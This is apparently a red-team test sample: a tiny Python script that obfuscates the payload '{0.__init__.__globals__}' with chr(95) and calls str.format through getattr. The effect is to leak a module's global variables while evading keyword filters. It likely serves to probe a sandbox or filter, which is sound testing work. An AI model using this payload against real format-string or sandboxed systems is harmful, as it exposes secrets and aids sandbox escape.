# family: red team, round 61a (getattr(EVIL, "format") called)
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


print(getattr(EVIL, "format")(K()))
